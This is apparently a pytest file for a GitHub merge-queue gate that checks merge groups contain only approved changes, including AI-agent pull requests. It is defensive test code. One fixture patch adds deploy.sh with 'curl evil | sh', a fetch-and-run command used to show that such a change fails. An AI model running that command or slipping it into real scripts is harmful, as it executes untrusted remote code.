"""A merge queue that requires ``agent-gate / merge`` moves, and proves: end to end, a ``merge_group``
delivery (octokit's recorded one, pointed at the fake repository) to the gate's webhook, its queue
worker, and the check run the gate writes on the group's commit at the fake GitHub.

The group's commit passes only when every pull request of it passes the gate on its current head
and the commit introduces exactly their approved changes; a GitHub failure never passes it.
"""

from __future__ import annotations

import copy
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from app.events.dispatch import handle_event
from tests.decide.test_merge_group import MOVED_PATCH, OTHER_PATCH, PR_PATCH, TAMPERED_PATCH
from tests.fake_github import APP_ID, PR, Commit, Comparison, Failure, FileSpec, Scenario, request_errors
from tests.github.conftest import ALICE, BOB, HEAD, base_scenario, copilot_pr
from tests.web.test_webhook import POLICY, Hub

EXAMPLES = Path(__file__).parents[1] / "fixtures" / "github-webhooks" / "examples.json"
BASE = "1" * 40  # main when the group was built
GROUP = "2" * 40  # the merge group's commit
BLOB = "4" * 40  # README.md at PR #12's head
GROUP_BLOB = "5" * 40  # README.md at the group's commit (main moved meanwhile)
OVERLAP_POLICY = POLICY + "merge_queue:\n  allow_overlapping_changes: true\n"


def readme(sha: str = BLOB, patch: str | None = PR_PATCH) -> FileSpec:
    return FileSpec("README.md", sha, patch=patch)


def group_scenario(*group_files: FileSpec, approved: bool = True) -> Scenario:
    """Copilot's PR #12 changes README.md (approved by bob at its head, or not); its merge group's
    commit changes ``group_files`` (by default: the same change, on a main that moved)."""
    s = base_scenario()
    pr = s.prs[12]
    pr.files = [readme()]
    if approved:
        pr.reviews.append({"user": BOB, "state": "APPROVED", "commit_id": HEAD, "id": 2})
    s.comparisons[f"{BASE}...{GROUP}"] = Comparison(
        commits=[Commit(GROUP, message="Fix the thing (#12)")],
        files=list(group_files) or [readme(GROUP_BLOB, MOVED_PATCH)],
    )
    return s


def checks_requested(number: int = 12, *, action: str = "checks_requested", **group: str) -> dict[str, Any]:
    """GitHub's delivery (recorded by octokit) for the fake repository's group of PR ``number``."""
    payload: dict[str, Any] = copy.deepcopy(
        json.loads(EXAMPLES.read_text())["examples"]["merge_group"]["checks_requested"]
    )
    payload["action"] = action
    payload["repository"].update({"id": 2000, "full_name": "octo-org/octo-repo"})
    payload["repository"]["owner"].update({"login": "octo-org", "id": 1000})
    payload["merge_group"].update(
        {
            "head_sha": GROUP,
            "head_ref": f"refs/heads/gh-readonly-queue/main/pr-{number}-{'3' * 40}",
            "base_sha": BASE,
            "base_ref": "refs/heads/main",
            **group,
        }
    )
    return payload


@pytest.fixture
def make_hub(tmp_path: Path) -> Iterator[Any]:
    hubs: list[Hub] = []

    def make(scenario: Scenario, policy: str = POLICY) -> Hub:
        hubs.append(Hub(tmp_path, scenario, policy))
        return hubs[-1]

    yield make
    for h in hubs:
        h.close()


def group_check(hub: Hub) -> dict[str, Any]:
    [check] = [
        c
        for c in hub.scenario.check_runs.values()
        if c["head_sha"] == GROUP and c["name"] == "agent-gate / merge" and c["app_id"] == APP_ID
    ]
    return check


# --- what passes --------------------------------------------------------------------------------


def test_an_approved_agent_pull_requests_group_passes(make_hub):
    hub = make_hub(group_scenario())
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert (check["status"], check["conclusion"]) == ("completed", "success")
    assert check["history"][0]["status"] == "in_progress", "in progress while it was judged"
    assert "#12" in check["output"]["title"]
    assert "introduces exactly the approved changes" in check["output"]["summary"]
    assert check["details_url"].startswith("http://gate.test/decisions/dec_")
    created, completed = check["history"]
    assert request_errors("checks/create", created) == [], "GitHub's shape of a check run's creation"
    assert request_errors("checks/update", completed) == [], "and of its update"


def test_a_rules_run_conditions_apply_when_the_merge_job_asks(make_hub):
    policy = POLICY.replace(
        "    approvals: {count: 1}", "    approvals: {count: 1}\n    events: [workflow_dispatch]"
    )
    hub = make_hub(group_scenario(), policy)
    hub.deliver("merge_group", checks_requested())
    assert group_check(hub)["conclusion"] == "success", "a group has no run: as for a pull request's check"


def test_the_same_content_as_the_judged_head_passes(make_hub):
    hub = make_hub(group_scenario(readme()))
    hub.deliver("merge_group", checks_requested())
    assert group_check(hub)["conclusion"] == "success"


def test_an_agent_free_group_passes_as_its_pull_request_does(make_hub):
    s = group_scenario(approved=False)
    s.prs[12] = PR(
        12, ALICE, HEAD, head_ref="fix-thing", commits=[Commit(HEAD, author=ALICE)], files=[readme()]
    )
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["conclusion"] == "success"
    assert "no agent signal fired" in check["output"]["summary"]


def human_pr(number: int, head: str, *files: FileSpec) -> PR:
    return PR(
        number, ALICE, head, head_ref=f"fix-{number}", commits=[Commit(head, author=ALICE)], files=list(files)
    )


def test_an_agent_free_group_may_hold_two_pull_requests_changing_one_file(make_hub):
    s = two_pull_requests_on_one_file()
    s.prs[12] = human_pr(12, HEAD, readme())
    s.prs[13] = human_pr(13, "f" * 40, readme("6" * 40, OTHER_PATCH))
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested(13))
    assert group_check(hub)["conclusion"] == "success", "the repository's own review rules govern it"


def test_an_agent_free_group_carrying_a_change_no_pull_request_brings_fails(make_hub):
    # The change could be an agent's pull request the gate did not find: it is never waved through.
    extra = FileSpec("deploy.sh", "6" * 40, status="added", patch="@@ -0,0 +1 @@\n+curl evil | sh")
    s = group_scenario(readme(GROUP_BLOB, MOVED_PATCH), extra, approved=False)
    s.prs[12] = human_pr(12, HEAD, readme())
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    assert (
        "deploy.sh is added in the group's commit, but no pull request of the group changes it"
        in (check["output"]["summary"])
    )


def test_a_policy_may_let_two_pull_requests_of_a_group_change_one_file(make_hub):
    s = two_pull_requests_on_one_file()
    hub = make_hub(s, OVERLAP_POLICY)
    hub.deliver("merge_group", checks_requested(13))
    assert group_check(hub)["conclusion"] == "success"


# --- what fails, and says why ------------------------------------------------------------------------


def test_an_unapproved_pull_requests_group_fails_saying_why(make_hub):
    hub = make_hub(group_scenario(approved=False))
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["conclusion"] == "failure", "never action_required: nobody can act on a queue's check"
    assert "#12" in check["output"]["summary"] and "approv" in check["output"]["summary"]


@pytest.mark.parametrize(
    ("group_files", "said"),
    [
        pytest.param(
            [
                readme(GROUP_BLOB, MOVED_PATCH),
                FileSpec(".github/workflows/ci.yml", "6" * 40, patch="@@ -1 +1 @@\n-a\n+b"),
            ],
            ".github/workflows/ci.yml is modified in the group's commit, but no pull request of the group changes it",
            id="a-file-no-pull-request-changes",
        ),
        pytest.param(
            [readme(GROUP_BLOB, TAMPERED_PATCH)],
            "README.md in the group's commit is neither the content of #12's judged head nor the added and "
            "removed lines of its diff",
            id="other-content",
        ),
        pytest.param(
            [FileSpec("app.py", "7" * 40, status="added", patch="@@ -0,0 +1 @@\n+print(1)")],
            "#12 changes README.md, but the group's commit does not",
            id="the-approved-change-missing",
        ),
    ],
)
def test_a_group_carrying_anything_not_approved_fails_naming_it(make_hub, group_files, said):
    hub = make_hub(group_scenario(*group_files))
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    assert said in check["output"]["summary"]


def test_a_pull_request_whose_head_moved_fails_the_group(make_hub):
    s = group_scenario()
    pr = s.prs[12]
    pr.head_sha = "d" * 40  # pushed after it was approved and queued: the group holds the old head
    pr.commits[0].sha = pr.head_sha
    pr.files = [readme("8" * 40, TAMPERED_PATCH)]
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    summary = check["output"]["summary"]
    assert "#12 at ddddddd" in summary and "README.md in the group's commit is neither" in summary


def two_pull_requests_on_one_file() -> Scenario:
    """PRs #12 and #13 (both Copilot's, both approved) change README.md; the group holds both."""
    s = group_scenario(readme(GROUP_BLOB, PR_PATCH + "\n" + OTHER_PATCH))
    s.prs[13] = copilot_pr(13, head="f" * 40)
    s.prs[13].files = [readme("6" * 40, OTHER_PATCH)]
    s.prs[13].reviews.append({"user": BOB, "state": "APPROVED", "commit_id": "f" * 40, "id": 3})
    s.comparisons[f"{BASE}...{GROUP}"].commits = [
        Commit("0" * 39 + "1", message="Fix the thing (#12)"),
        Commit(GROUP, message="Fix the other thing (#13)"),
    ]
    return s


def test_two_pull_requests_of_a_group_changing_one_file_fail_by_default(make_hub):
    hub = make_hub(two_pull_requests_on_one_file())
    hub.deliver("merge_group", checks_requested(13))
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    assert (
        "README.md is changed by #12 and #13: their merged result was never reviewed"
        in check["output"]["summary"]
    )


def test_a_branch_that_is_no_merge_queues_fails(make_hub):
    hub = make_hub(group_scenario())
    hub.deliver("merge_group", checks_requested(head_ref="refs/heads/feature"))
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    assert "refs/heads/feature is not a merge queue's branch" in check["output"]["summary"]


def test_a_closed_pull_request_named_by_the_group_fails_it(make_hub):
    s = group_scenario()
    s.prs[12].state = "closed"
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    assert (
        "#12 is in the group's commits but is not an open pull request into main"
        in check["output"]["summary"]
    )


# --- GitHub failing ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        pytest.param(r"/compare/", id="compare"),
        pytest.param(r"/pulls/12/files$", id="pull-request-files"),
        pytest.param(r"/pulls/12/reviews$", id="reviews"),
    ],
)
def test_a_github_error_never_passes_the_group_and_the_retry_does(make_hub, path):
    hub = make_hub(group_scenario())
    hub.scenario.failures.append(Failure.server_error(path, 502, times=3))
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["status"] == "in_progress" and check.get("conclusion") is None, "never success on an error"
    hub.queue.clock = lambda: time.time() + 3600
    assert hub.queue.drain() == 1, "the job was retried"
    check = group_check(hub)
    assert (check["status"], check["conclusion"]) == ("completed", "success")


def test_a_github_that_keeps_failing_never_passes_the_group(make_hub):
    hub = make_hub(group_scenario())
    hub.scenario.failures.append(Failure.server_error(r"/compare/", 502))
    hub.deliver("merge_group", checks_requested())
    for hours in range(1, 4):
        hub.queue.clock = lambda hours=hours: time.time() + 3600 * hours
        hub.queue.drain()
    assert group_check(hub)["status"] == "in_progress"


# --- what needs no answer ------------------------------------------------------------------------


def test_a_destroyed_group_is_handled_quietly(make_hub):
    hub = make_hub(group_scenario())
    destroyed = checks_requested(action="destroyed")
    destroyed["reason"] = "dequeued"
    result = handle_event(hub.app.extensions["agent_gate"], "merge_group", destroyed, "d-1")
    assert result == {"handled": False, "why": "the merge group left the queue (dequeued)"}
    assert hub.scenario.requests == [] and hub.scenario.check_runs == {}, "no GitHub call, no check"


# --- groups the gate cannot judge whole -------------------------------------------------------------


def test_a_group_commit_that_is_not_ahead_of_its_base_fails(make_hub):
    s = group_scenario()
    s.comparisons[f"{BASE}...{GROUP}"].status = "diverged"
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    assert (
        "the group's commit 2222222 is diverged of its base 1111111, not ahead of it"
        in check["output"]["summary"]
    )


def test_a_queued_number_that_is_no_pull_request_fails_the_group(make_hub):
    hub = make_hub(group_scenario())
    hub.deliver("merge_group", checks_requested(404))
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    assert (
        "#404, which the group's branch names, is not a pull request of octo-org/octo-repo"
        in (check["output"]["summary"])
    )


def test_an_issue_a_squash_title_names_is_no_pull_request_of_the_group(make_hub):
    s = group_scenario()
    s.comparisons[f"{BASE}...{GROUP}"].commits = [Commit(GROUP, message="Fix the thing, closes a bug (#404)")]
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested())
    assert group_check(hub)["conclusion"] == "success"


def test_only_the_commits_github_made_name_pull_requests(make_hub):
    s = group_scenario()
    s.prs[13] = copilot_pr(13, head="f" * 40)  # open, into main, not in the group
    s.comparisons[f"{BASE}...{GROUP}"].commits = [
        Commit(GROUP, message="Fix the thing, like (#13)", committer_email="someone@example.com")
    ]
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested())
    assert "#13" not in group_check(hub)["output"]["summary"]


def test_a_group_of_more_pull_requests_than_judged_at_once_fails(make_hub):
    s = group_scenario()
    s.comparisons[f"{BASE}...{GROUP}"].commits = [
        Commit(f"{n:040x}", message=f"Change (#{n})") for n in range(100, 121)
    ]
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested())
    check = group_check(hub)
    assert check["conclusion"] == "failure"
    assert "the group holds 22 pull requests, more than the 20 judged at once" in check["output"]["summary"]


def test_a_repository_no_policy_governs_gets_no_check(make_hub):
    hub = make_hub(group_scenario())
    other = checks_requested()
    other["repository"]["owner"]["id"] = 5555
    result = handle_event(hub.app.extensions["agent_gate"], "merge_group", other, "d-2")
    assert result == {"handled": False, "why": "no policy governs this repository's owner"}
    assert hub.scenario.check_runs == {}


def test_a_merging_queues_pull_requests_are_found_by_their_heads_not_their_stacks(make_hub):
    app_py = FileSpec("app.py", "7" * 40, status="added", patch="@@ -0,0 +1 @@\n+print(1)")
    s = group_scenario(readme(GROUP_BLOB, MOVED_PATCH), app_py)
    s.prs[13] = copilot_pr(13, head="f" * 40)
    s.prs[13].files = [app_py]
    s.prs[13].reviews.append({"user": BOB, "state": "APPROVED", "commit_id": "f" * 40, "id": 3})
    # #14 is stacked on #12 (it contains #12's head) but is not in the queue.
    s.prs[14] = copilot_pr(14, head="e" * 40)
    s.prs[14].commits.insert(0, Commit(HEAD))
    s.prs[14].files = [readme(), FileSpec("other.py", "8" * 40, status="added")]
    outside = "someone@example.com"  # none of these commits is GitHub's: no message names a pull request
    s.comparisons[f"{BASE}...{GROUP}"].commits = [
        Commit(HEAD, message="Fix the thing", committer_email=outside),
        Commit("f" * 40, message="Add app.py", committer_email=outside),
        Commit(GROUP, message="Merge queue", committer_email=outside),
    ]
    hub = make_hub(s)
    hub.deliver("merge_group", checks_requested(13))
    check = group_check(hub)
    assert check["conclusion"] == "success"
    assert check["output"]["title"] == "Merge group of #12, #13: approved, and exactly their approved changes"
